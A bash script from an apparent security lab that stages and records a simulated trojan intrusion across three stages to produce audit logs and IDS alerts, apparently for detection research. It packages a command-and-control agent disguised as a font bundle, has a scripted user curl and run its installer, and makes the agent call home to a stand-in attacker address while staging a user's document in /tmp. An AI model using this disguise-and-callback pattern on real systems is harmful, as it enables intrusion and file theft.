#!/bin/bash
# Records the sample twelve-days. Run as root on a machine of your own; results in /opt/lab/out/twelve-days.
# The three stages are recorded one after the other; lib/shift.py then moves the second and the third by days.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
NOISE_USERS="alice:builder bob:analyst emi:writer"
lab_begin "$here" desk-21 10.20.0.40 ""

install -d -o $OUT_UID "$RUN/attacker" "$RUN/fonts"
{ echo '#!/usr/bin/python3'
  lab_agent 8446 who=id list="ls -la Documents" copy="cp Documents/plan.txt /tmp/.d" read="cat /tmp/.d"; } > "$RUN/fonts/fcagent"
cp "$RUN/install.sh" "$RUN/refresh.sh" "$RUN/fonts/"; seq 1 300 > "$RUN/fonts/serif.pcf"
chmod 755 "$RUN/fonts/fcagent"
tar czf "$RUN/attacker/fonts.tar.gz" -C "$RUN" --owner=0 --group=0 fonts
rm -r "$RUN/fonts"
lab_outside python3 "$RUN/c2.py" $BAD_IP 8446 "$RUN/seen.json" 2901414 "LAB TROJAN call home after a login" who list copy read
lab_outside python3 -m http.server --bind $WEB_IP --directory "$RUN/attacker" 8080
sample_end() { rm -f /tmp/.d; }

last_serial() { sleep 2; tail -1 "$LOG/audit.log" | sed 's/.*:\([0-9]*\)).*/\1/'; }

lab_audit_on RAW 500 1
lab_noise_on 3
sleep 5
lab_terminal kenji <<TYPED
2 ls
2 curl -s -O http://$WEB_IP:8080/fonts.tar.gz
2 tar xzf fonts.tar.gz
2 sh fonts/install.sh
3 rm -r fonts fonts.tar.gz
TYPED
sleep 6
lab_noise_off
first=$(last_serial)

lab_noise_on 3
sleep 5
lab_terminal kenji <<TYPED
2 ls Documents
3 sh .local/share/fonts/refresh.sh
3 head -1 Documents/plan.txt
TYPED
sleep 8
lab_noise_off
second=$(last_serial)

lab_noise_on 3
sleep 5
lab_terminal kenji <<TYPED
12 ls
3 ls -la Documents
TYPED
sleep 4
lab_noise_off
lab_audit_off
python3 "$here/../lib/shift.py" "$OUT/audit.log" "$first=4" "$second=12"
python3 "$RUN/sensor.py" suricata "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json" --days 12
